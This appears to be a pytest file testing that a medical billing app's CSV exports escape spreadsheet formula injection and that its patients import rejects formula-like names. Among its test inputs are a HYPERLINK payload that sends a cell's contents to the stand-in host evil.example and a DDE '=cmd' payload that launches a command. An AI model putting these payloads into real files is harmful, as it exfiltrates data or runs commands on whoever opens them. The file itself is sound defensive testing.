"""Every CSV the app writes is formula-safe (OWASP): names that begin with = + - @, tab or
CR come out with an apostrophe in front, in every report; the patients import refuses them."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from oa_desktop.domain.cells import FORMULA_STARTS, looks_like_formula, safe_cell
from oa_desktop.services.imports import csv_import
from oa_desktop.services.reports import costs
from oa_desktop.services.reports import practice as rp
from oa_desktop.services.reports.table import write_csv, write_csv_rows
from oa_desktop.services.workspace import Workspace
from tests.conftest import DEMO_DAY
from tests.services.imports.test_csv_import import PATIENT_HEADER, patient, write

PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_dangerous_start_is_prefixed(start: str) -> None:
    assert safe_cell(start + PAYLOAD) == "'" + start + PAYLOAD
    assert looks_like_formula(start + "1+2")


@pytest.mark.parametrize("number", ["-12.50", "+3", "-0.5", "-.5", "1234.56"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number


def test_ordinary_text_is_unchanged() -> None:
    for text in ("O'NEIL", "SMITH-JONES", "", "a=b", "Total"):
        assert safe_cell(text) == text


def _poison(workspace: Workspace) -> list[str]:
    """Give patients, payers and providers names that begin with each dangerous character."""
    names = []
    with workspace.store.write() as db:
        for table, column in (("patients", "last_name"), ("payers", "name"),
                              ("rendering_providers", "last_name")):
            ids = [r[0] for r in db.execute(f"SELECT id FROM {table} ORDER BY id")]
            for n, row_id in enumerate(ids):
                name = FORMULA_STARTS[n % len(FORMULA_STARTS)] + f"{table.upper()}{n}"
                names.append(name)
                db.execute(f"UPDATE {table} SET {column} = ? WHERE id = ?", [name, row_id])
    return names


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_every_report_csv_neutralises_dangerous_names(
    demo_workspace: Workspace, tmp_path: Path
) -> None:
    names = _poison(demo_workspace)
    store = demo_workspace.store
    tables = [rp.build(store, key, DEMO_DAY) for key in rp.REPORTS]
    tables.append(costs.costs_table(store, date(DEMO_DAY.year, DEMO_DAY.month, 1), DEMO_DAY)[0])
    found: set[str] = set()
    for table in tables:
        path = tmp_path / f"{table.key}.csv"
        write_csv(table, path)
        for cell in _cells(path):
            assert not looks_like_formula(cell), (table.key, cell)
            if cell.startswith("'"):
                found.add(cell[1:])
    # the poisoned names did reach the exports (so the check above checked something)
    assert any(name in cell for name in names for cell in found)
    assert {cell[0] for cell in found} >= {"=", "+", "-", "@"}


def test_the_one_writer_serves_any_rows(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    rows = [["Patient", "Balance"], ["=cmd|' /C calc'!A0", "-12.50"], ["@SUM(A1)", None]]
    assert write_csv_rows(rows, path) == 3
    assert _cells(path) == ["Patient", "Balance", "'=cmd|' /C calc'!A0", "-12.50",
                            "'@SUM(A1)", ""]


def test_patients_import_refuses_formula_names_row_by_row(
    demo_workspace: Workspace, tmp_path: Path
) -> None:
    rows = [patient(account_number="OK1"),
            patient(account_number="BAD1", last_name="=HYPERLINK(\"http://x\",\"y\")"),
            patient(account_number="BAD2", first_name="@SUM(1)"),
            patient(account_number="BAD3", subscriber_last_name="+1+2"),
            patient(account_number="BAD4", city="-2+3")]
    path = write(tmp_path / "patients.csv", PATIENT_HEADER, rows)
    checked = csv_import.preview(path, "patients", demo_workspace.store, DEMO_DAY)
    assert [r.values["account_number"] for r in checked.valid_rows] == ["OK1"]
    report = [str(e) for e in checked.errors]
    assert [(e.row, e.column) for e in checked.errors] == [
        (3, "last_name"), (4, "first_name"), (5, "subscriber_last_name"), (6, "city")]
    assert "a spreadsheet would run it as a formula" in report[0]
    counts = csv_import.commit(demo_workspace.store, checked)
    assert counts.patients == 1
    stored = {r[0] for r in demo_workspace.store.read.execute("SELECT last_name FROM patients")}
    assert not any(looks_like_formula(name) for name in stored)
